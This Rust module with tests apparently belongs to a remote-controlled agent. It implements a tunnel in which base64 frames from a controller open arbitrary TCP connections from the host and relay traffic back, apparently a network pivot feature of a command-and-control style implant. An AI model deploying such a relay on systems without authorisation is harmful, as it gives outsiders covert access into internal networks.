//! Byte-stream tunnel (tasks 60/61).
//!
//! Type-61 bodies carry base64-encoded binary frames:
//! `{stream_id: u32 BE}{op: u8}{payload}` with ops OPEN=1 (payload is
//! `host:port`), DATA=2, CLOSE=3. Inbound frames drive TCP connections on
//! this side; anything the sockets produce flows back as type-61 responses
//! tagged with the tunnel's correlation id. At most one tunnel runs at a
//! time; a second start request is reported, not restarted.

use std::collections::HashMap;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::sync::{Mutex, mpsc};
use tokio::task::JoinHandle;
use tokio_util::sync::CancellationToken;

use crate::agent::Agent;
use crate::error::TaskError;
use crate::packet::ResponseChannel;
use crate::tasks::TaskKind;

const FRAME_HEADER_SIZE: usize = 5;
const OUTBOUND_BUF_SIZE: usize = 16 * 1024;

/// Frame operations.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub enum TunnelOp {
    Open = 1,
    Data = 2,
    Close = 3,
}

impl TunnelOp {
    fn from_byte(byte: u8) -> Option<Self> {
        match byte {
            1 => Some(Self::Open),
            2 => Some(Self::Data),
            3 => Some(Self::Close),
            _ => None,
        }
    }
}

/// One tunnel frame: stream id, operation, payload.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TunnelFrame {
    pub stream_id: u32,
    pub op: TunnelOp,
    pub payload: Vec<u8>,
}

impl TunnelFrame {
    pub fn new(stream_id: u32, op: TunnelOp, payload: Vec<u8>) -> Self {
        Self {
            stream_id,
            op,
            payload,
        }
    }

    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(FRAME_HEADER_SIZE + self.payload.len());
        out.extend_from_slice(&self.stream_id.to_be_bytes());
        out.push(self.op as u8);
        out.extend_from_slice(&self.payload);
        out
    }

    pub fn parse(raw: &[u8]) -> Result<Self, TaskError> {
        if raw.len() < FRAME_HEADER_SIZE {
            return Err(TaskError::Malformed(format!(
                "tunnel frame shorter than its {FRAME_HEADER_SIZE}-byte header"
            )));
        }
        let stream_id = u32::from_be_bytes([raw[0], raw[1], raw[2], raw[3]]);
        let op = TunnelOp::from_byte(raw[4])
            .ok_or_else(|| TaskError::Malformed(format!("unknown tunnel op {}", raw[4])))?;
        Ok(Self {
            stream_id,
            op,
            payload: raw[FRAME_HEADER_SIZE..].to_vec(),
        })
    }
}

struct TunnelHandle {
    frames: mpsc::UnboundedSender<TunnelFrame>,
    cancel: CancellationToken,
    task: JoinHandle<()>,
}

/// Holder for the at-most-one running tunnel.
#[derive(Default)]
pub struct TunnelSlot {
    inner: Mutex<Option<TunnelHandle>>,
}

impl TunnelSlot {
    pub fn new() -> Self {
        Self::default()
    }

    pub async fn is_running(&self) -> bool {
        self.inner.lock().await.is_some()
    }

    /// Start the tunnel job. Returns `false` if one is already running.
    async fn start(&self, responses: ResponseChannel, correlation_id: String) -> bool {
        let mut slot = self.inner.lock().await;
        if slot.is_some() {
            return false;
        }

        let (tx, rx) = mpsc::unbounded_channel();
        let cancel = CancellationToken::new();
        let task = tokio::spawn(run_tunnel(rx, responses, correlation_id, cancel.clone()));
        *slot = Some(TunnelHandle {
            frames: tx,
            cancel,
            task,
        });
        true
    }

    /// Feed one inbound frame to the running tunnel.
    async fn feed(&self, frame: TunnelFrame) -> Result<(), TaskError> {
        let slot = self.inner.lock().await;
        let handle = slot.as_ref().ok_or(TaskError::TunnelNotRunning)?;
        handle
            .frames
            .send(frame)
            .map_err(|_| TaskError::TunnelNotRunning)
    }

    /// Cancel and tear down the tunnel, if any.
    pub async fn stop(&self) {
        if let Some(handle) = self.inner.lock().await.take() {
            handle.cancel.cancel();
            if !handle.task.is_finished() {
                handle.task.abort();
            }
            tracing::debug!("Tunnel stopped");
        }
    }
}

impl Agent {
    /// Task 60: start the tunnel; an already-running tunnel is reported.
    pub(crate) async fn handle_tunnel_start(&self, id: &str) -> Result<(), TaskError> {
        let started = self
            .tunnel
            .start(self.responses.clone(), id.to_string())
            .await;
        let message = if started {
            "tunnel started"
        } else {
            "tunnel already running"
        };
        self.responses
            .send(TaskKind::TunnelStart.code(), message, id)
            .await?;
        Ok(())
    }

    /// Task 61: decode one inbound frame and hand it to the tunnel. Produces
    /// no response of its own.
    pub(crate) async fn handle_tunnel_data(&self, data: &str) -> Result<(), TaskError> {
        let raw = BASE64.decode(data.trim())?;
        let frame = TunnelFrame::parse(&raw)?;
        self.tunnel.feed(frame).await
    }
}

/// The tunnel job: owns the stream table and reacts to inbound frames.
async fn run_tunnel(
    mut frames: mpsc::UnboundedReceiver<TunnelFrame>,
    responses: ResponseChannel,
    correlation_id: String,
    cancel: CancellationToken,
) {
    let mut streams: HashMap<u32, OwnedWriteHalf> = HashMap::new();

    loop {
        let frame = tokio::select! {
            _ = cancel.cancelled() => break,
            frame = frames.recv() => match frame {
                Some(frame) => frame,
                None => break,
            },
        };

        match frame.op {
            TunnelOp::Open => {
                let target = String::from_utf8_lossy(&frame.payload).into_owned();
                match TcpStream::connect(&target).await {
                    Ok(stream) => {
                        let (read_half, write_half) = stream.into_split();
                        streams.insert(frame.stream_id, write_half);
                        tokio::spawn(pump_outbound(
                            read_half,
                            frame.stream_id,
                            responses.clone(),
                            correlation_id.clone(),
                            cancel.child_token(),
                        ));
                        tracing::debug!(stream = frame.stream_id, %target, "Tunnel stream opened");
                    }
                    Err(e) => {
                        tracing::warn!(stream = frame.stream_id, %target, "Tunnel connect failed: {e}");
                        send_frame(
                            &responses,
                            &correlation_id,
                            TunnelFrame::new(frame.stream_id, TunnelOp::Close, Vec::new()),
                        )
                        .await;
                    }
                }
            }
            TunnelOp::Data => {
                let failed = match streams.get_mut(&frame.stream_id) {
                    Some(write_half) => write_half.write_all(&frame.payload).await.is_err(),
                    None => true,
                };
                if failed {
                    streams.remove(&frame.stream_id);
                    send_frame(
                        &responses,
                        &correlation_id,
                        TunnelFrame::new(frame.stream_id, TunnelOp::Close, Vec::new()),
                    )
                    .await;
                }
            }
            TunnelOp::Close => {
                // Dropping the write half shuts the connection down.
                streams.remove(&frame.stream_id);
                tracing::debug!(stream = frame.stream_id, "Tunnel stream closed");
            }
        }
    }
}

/// Read one stream's socket and emit DATA frames until EOF or cancellation.
async fn pump_outbound(
    mut read_half: OwnedReadHalf,
    stream_id: u32,
    responses: ResponseChannel,
    correlation_id: String,
    cancel: CancellationToken,
) {
    let mut buf = vec![0u8; OUTBOUND_BUF_SIZE];
    loop {
        let n = tokio::select! {
            _ = cancel.cancelled() => return,
            n = read_half.read(&mut buf) => match n {
                Ok(0) | Err(_) => break,
                Ok(n) => n,
            },
        };
        send_frame(
            &responses,
            &correlation_id,
            TunnelFrame::new(stream_id, TunnelOp::Data, buf[..n].to_vec()),
        )
        .await;
    }
    send_frame(
        &responses,
        &correlation_id,
        TunnelFrame::new(stream_id, TunnelOp::Close, Vec::new()),
    )
    .await;
}

/// Base64-encode a frame into a type-61 response; a transport failure here
/// can only be logged.
async fn send_frame(responses: &ResponseChannel, correlation_id: &str, frame: TunnelFrame) {
    let body = BASE64.encode(frame.encode());
    if let Err(e) = responses
        .send(TaskKind::TunnelData.code(), &body, correlation_id)
        .await
    {
        tracing::warn!(stream = frame.stream_id, "Failed to send tunnel frame: {e}");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    use crate::transport::QueueTransport;

    fn channel() -> (ResponseChannel, Arc<QueueTransport>) {
        let transport = Arc::new(QueueTransport::new());
        (ResponseChannel::new(transport.clone()), transport)
    }

    #[test]
    fn test_frame_encode_layout() {
        let frame = TunnelFrame::new(0x0102_0304, TunnelOp::Data, vec![0xAA, 0xBB]);
        let raw = frame.encode();
        assert_eq!(raw, vec![0x01, 0x02, 0x03, 0x04, 2, 0xAA, 0xBB]);
    }

    #[test]
    fn test_frame_parse_round_trip() {
        for op in [TunnelOp::Open, TunnelOp::Data, TunnelOp::Close] {
            let frame = TunnelFrame::new(7, op, b"payload".to_vec());
            assert_eq!(TunnelFrame::parse(&frame.encode()).unwrap(), frame);
        }
    }

    #[test]
    fn test_frame_parse_rejects_short_and_bad_op() {
        assert!(TunnelFrame::parse(&[0, 0, 0, 1]).is_err());
        assert!(TunnelFrame::parse(&[0, 0, 0, 1, 9]).is_err());
    }

    #[tokio::test]
    async fn test_feed_without_tunnel_is_handled_error() {
        let slot = TunnelSlot::new();
        let err = slot
            .feed(TunnelFrame::new(1, TunnelOp::Close, Vec::new()))
            .await
            .unwrap_err();
        assert!(matches!(err, TaskError::TunnelNotRunning));
    }

    #[tokio::test]
    async fn test_second_start_is_reported_not_restarted() {
        let (responses, _transport) = channel();
        let slot = TunnelSlot::new();
        assert!(slot.start(responses.clone(), "tun-1".to_string()).await);
        assert!(!slot.start(responses, "tun-1".to_string()).await);
        slot.stop().await;
        assert!(!slot.is_running().await);
    }

    #[tokio::test]
    async fn test_tunnel_echoes_through_tcp() {
        use tokio::net::TcpListener;

        // Echo server the tunnel connects to.
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            let (mut socket, _) = listener.accept().await.unwrap();
            let mut buf = [0u8; 64];
            let n = socket.read(&mut buf).await.unwrap();
            socket.write_all(&buf[..n]).await.unwrap();
        });

        let (responses, transport) = channel();
        let slot = TunnelSlot::new();
        assert!(slot.start(responses, "tun-1".to_string()).await);

        slot.feed(TunnelFrame::new(
            5,
            TunnelOp::Open,
            addr.to_string().into_bytes(),
        ))
        .await
        .unwrap();
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        slot.feed(TunnelFrame::new(5, TunnelOp::Data, b"ping".to_vec()))
            .await
            .unwrap();

        // Wait for the echoed DATA frame to surface as a type-61 response.
        let mut echoed = None;
        for _ in 0..50 {
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
            let packets = transport.sent_packets().await;
            if let Some(packet) = packets.iter().find(|p| {
                p.kind == TaskKind::TunnelData.code()
                    && TunnelFrame::parse(&BASE64.decode(&p.data).unwrap())
                        .map(|f| f.op == TunnelOp::Data)
                        .unwrap_or(false)
            }) {
                echoed = Some(packet.clone());
                break;
            }
        }
        let packet = echoed.expect("echoed tunnel data");
        let frame = TunnelFrame::parse(&BASE64.decode(&packet.data).unwrap()).unwrap();
        assert_eq!(frame.stream_id, 5);
        assert_eq!(frame.payload, b"ping");
        assert_eq!(packet.id, "tun-1");

        slot.stop().await;
    }
}
